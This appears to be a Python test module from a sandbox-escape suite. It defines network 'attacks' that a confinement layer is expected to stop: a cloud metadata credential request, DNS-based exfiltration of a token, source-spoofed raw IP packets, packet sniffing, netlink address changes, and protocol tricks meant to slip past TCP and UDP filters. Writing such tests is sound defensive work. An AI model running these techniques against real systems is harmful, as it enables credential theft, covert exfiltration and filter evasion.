"""The network: reached, listened on, and gone around."""

from __future__ import annotations

import ctypes
import select
import socket
import struct
import time

from tests.escape.attacks.attack import ROOT, Scene, attack
from tests.escape.attacks.calls import Iovec, call, child

MPTCP, UDPLITE, SCTP = 262, 136, 132
FASTOPEN, FASTOPEN_CONNECT = 0x20000000, 30
AF_VSOCK, AF_ALG, AF_XDP = 40, 38, 44


def tell(scene: Scene, address: str, port: int, family: int = socket.AF_INET, protocol: int = 0) -> str:
    """Send the token over a stream; the answer."""
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(2)
        one.connect((address, port))
        one.sendall(scene.token.encode())
        return one.recv(200).decode()


@attack("network", "tcp-loopback", "reaches a service on loopback")
def _(scene: Scene) -> str:
    return tell(scene, "127.0.0.1", scene["tcp"])


@attack("network", "tcp6-loopback", "reaches a service on loopback over IPv6", needs="ipv6")
def _(scene: Scene) -> str:
    return tell(scene, "::1", scene["tcp6"], socket.AF_INET6)


@attack("network", "tcp-mapped", "reaches an IPv4 service through a mapped IPv6 address", needs="ipv6")
def _(scene: Scene) -> str:
    return tell(scene, "::ffff:127.0.0.1", scene["tcp"], socket.AF_INET6)


@attack("network", "tcp-host", "reaches another host; where that host is granted, this has to work")
def _(scene: Scene) -> str:
    try:
        return tell(scene, scene["name"], scene["tcp_host"])
    except socket.gaierror as problem:
        raise OSError(problem.errno, str(problem)) from problem


@attack("network", "tcp-address", "reaches another host by its address, on a port that is not granted anywhere")
def _(scene: Scene) -> str:
    return tell(scene, scene["host"], scene["tcp_address"])


@attack("network", "tcp-other-port", "reaches another port of that host by its name")
def _(scene: Scene) -> str:
    try:
        return tell(scene, scene["name"], scene["tcp_other"])
    except socket.gaierror as problem:
        raise OSError(problem.errno, str(problem)) from problem


@attack("network", "metadata", "asks the cloud's metadata service for credentials", secret="metadata")
def _(scene: Scene) -> str:
    with socket.create_connection(("169.254.169.254", 80), 2) as one:
        one.sendall(b"GET /latest/meta-data/iam/ HTTP/1.0\r\n\r\n")
        return one.recv(400).decode()


@attack("network", "mptcp", "reaches a service with multipath TCP, which a filter for TCP does not see", needs="mptcp")
def _(scene: Scene) -> str:
    return tell(scene, "127.0.0.1", scene["tcp"], protocol=MPTCP)


@attack("network", "fastopen", "reaches a service without connect, with MSG_FASTOPEN")
def _(scene: Scene) -> None:
    with socket.socket() as one:
        one.sendto(scene.token.encode(), FASTOPEN, ("127.0.0.1", scene["tcp"]))
        time.sleep(0.1)


@attack("network", "fastopen-sendmsg", "reaches a service without connect, with MSG_FASTOPEN in sendmsg")
def _(scene: Scene) -> None:
    with socket.socket() as one:
        one.sendmsg([scene.token.encode()], [], FASTOPEN, ("127.0.0.1", scene["tcp"]))
        time.sleep(0.1)


@attack("network", "fastopen-sendmmsg", "reaches a service without connect, with MSG_FASTOPEN in sendmmsg")
def _(scene: Scene) -> None:
    data, name = ctypes.create_string_buffer(scene.token.encode()), ctypes.create_string_buffer(16)
    struct.pack_into("=HH4s", name, 0, socket.AF_INET, socket.htons(scene["tcp"]), socket.inet_aton("127.0.0.1"))
    vector = Iovec(ctypes.addressof(data), len(scene.token))
    message = struct.pack("=QI4xQQQQi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
    with socket.socket() as one:
        call("sendmmsg", one.fileno(), ctypes.create_string_buffer(message, len(message)), 1, FASTOPEN)
        time.sleep(0.1)


@attack("network", "fastopen-connect", "reaches a service with a connect that is put off")
def _(scene: Scene) -> str:
    with socket.socket() as one:
        one.settimeout(2)
        one.setsockopt(socket.IPPROTO_TCP, FASTOPEN_CONNECT, 1)
        one.connect(("127.0.0.1", scene["tcp"]))
        one.sendall(scene.token.encode())
        return one.recv(200).decode()


@attack("network", "sctp", "reaches a service with SCTP", needs="sctp")
def _(scene: Scene) -> str:
    return tell(scene, "127.0.0.1", scene["sctp"], protocol=SCTP)


@attack("network", "udp", "sends a datagram to loopback")
def _(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(scene.token.encode(), ("127.0.0.1", scene["udp"]))


@attack("network", "udp-host", "sends a datagram to another host")
def _(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(scene.token.encode(), (scene["host"], scene["udp"]))


@attack("network", "udplite", "sends a datagram with UDP-Lite, which a filter for UDP does not see", needs="udplite")
def _(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE) as one:
        one.sendto(scene.token.encode(), ("127.0.0.1", scene["udplite"]))


@attack("network", "dns-query", "sends data away as the name in a DNS query of its own")
def _(scene: Scene) -> None:
    name = b"".join(bytes([len(part)]) + part for part in (scene.token.encode(), b"example"))
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(query, (scene["host"], 53))


@attack("network", "dns-resolver", "sends data away as a name that the machine's resolver looks up", needs="resolver")
def _(scene: Scene) -> None:
    try:
        socket.getaddrinfo(f"{scene.token}.example.", 80)
    except socket.gaierror as problem:
        raise OSError(problem.errno, str(problem)) from problem


def welcome(one: socket.socket, token: str) -> None:
    """Tell every visitor."""
    while True:
        visitor, _ = one.accept()
        visitor.sendall(token.encode())
        visitor.close()


def answer(one: socket.socket, token: str) -> None:
    """Tell everybody who asks."""
    while True:
        _, visitor = one.recvfrom(100)
        one.sendto(token.encode(), visitor)


@attack("network", "listen", "waits for visitors on a TCP port")
def _(scene: Scene) -> object:
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    one.bind(("0.0.0.0", scene["free"]))
    one.listen(4)
    child(lambda: welcome(one, scene.token))
    return scene.hold({"visit": scene["free"], "keep": one.fileno()})


@attack("network", "listen-unbound", "waits for visitors on a port that listen itself picks, without bind")
def _(scene: Scene) -> object:
    one = socket.socket()
    one.listen(4)
    port = one.getsockname()[1]
    child(lambda: welcome(one, scene.token))
    return scene.hold({"visit": port, "keep": one.fileno()})


@attack("network", "udp-listen", "answers datagrams on a port")
def _(scene: Scene) -> object:
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind(("0.0.0.0", scene["free"]))
    child(lambda: answer(one, scene.token))
    return scene.hold({"visit_udp": scene["free"], "keep": one.fileno()})


@attack("network", "ping", "sends an ICMP echo without privileges, data inside", needs="ping")
def _(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.settimeout(2)
        one.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + scene.token.encode(), (scene["ping"], 0))


@attack("network", "raw-icmp", "sends ICMP through a raw socket", users=ROOT)
def _(scene: Scene) -> None:
    body = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + scene.token.encode()
    total = sum(struct.unpack(f">{len(body) // 2}H", body))
    total = (total >> 16) + (total & 0xFFFF)
    checked = body[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(checked, (scene["raw_ping"], 0))


@attack("network", "raw-ip", "forges a whole datagram with somebody else's address", users=ROOT)
def _(scene: Scene) -> None:
    data = scene.token.encode()
    there = socket.inet_aton(scene["host"])
    udp = struct.pack(">4H", 53, scene["udp"], 8 + len(data), 0) + data
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(head + there + there + udp, (scene["host"], 0))


@attack("network", "packet", "listens to what others send", users=ROOT, secret="chatter")
def _(scene: Scene) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as one:
        until = time.monotonic() + 2
        while time.monotonic() < until:
            if select.select([one], [], [], 0.2)[0] and b"CANARY" in (heard := one.recv(2000)):
                return heard.decode("latin-1")
    raise TimeoutError("nothing was said")


@attack("network", "netlink-route", "learns the machine's addresses over netlink", secret="address")
def _(scene: Scene) -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.settimeout(2)
        one.sendto(struct.pack("=IHHIIB3x", 20, 22, 0x301, 1, 0, socket.AF_INET), (0, 0))
        heard = one.recv(65536)
    addresses = [heard[at : at + 4] for at in range(len(heard) - 3)]
    return " ".join(socket.inet_ntoa(one) for one in addresses if one[:2] == bytes((10, 66)))


@attack("network", "netlink-add", "gives the machine another address", users=ROOT)
def _(scene: Scene) -> None:
    address = socket.inet_aton(scene["new_address"])
    body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, socket.if_nametoindex("lo"))
    body += struct.pack("=HH4s", 8, 2, address) + struct.pack("=HH4s", 8, 1, address)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.settimeout(2)
        one.sendto(struct.pack("=IHHII", 16 + len(body), 20, 0x405, 1, 0) + body, (0, 0))
        answer = struct.unpack_from("=i", one.recv(4096), 16)[0]
    if answer:
        raise OSError(-answer, "netlink refused")


@attack("network", "vsock", "opens a socket to the machine's hypervisor", needs="vsock")
def _(scene: Scene) -> object:
    one = socket.socket(AF_VSOCK, socket.SOCK_STREAM)
    return scene.hold({"socket": one.fileno()})


@attack("network", "alg", "uses the kernel's cryptography sockets", needs="alg")
def _(scene: Scene) -> object:
    one = socket.socket(AF_ALG, socket.SOCK_SEQPACKET)
    return scene.hold({"socket": one.fileno()})


@attack("network", "xdp", "opens a socket that goes around the network stack", users=ROOT, needs="xdp")
def _(scene: Scene) -> object:
    one = socket.socket(AF_XDP, socket.SOCK_RAW)
    return scene.hold({"socket": one.fileno()})
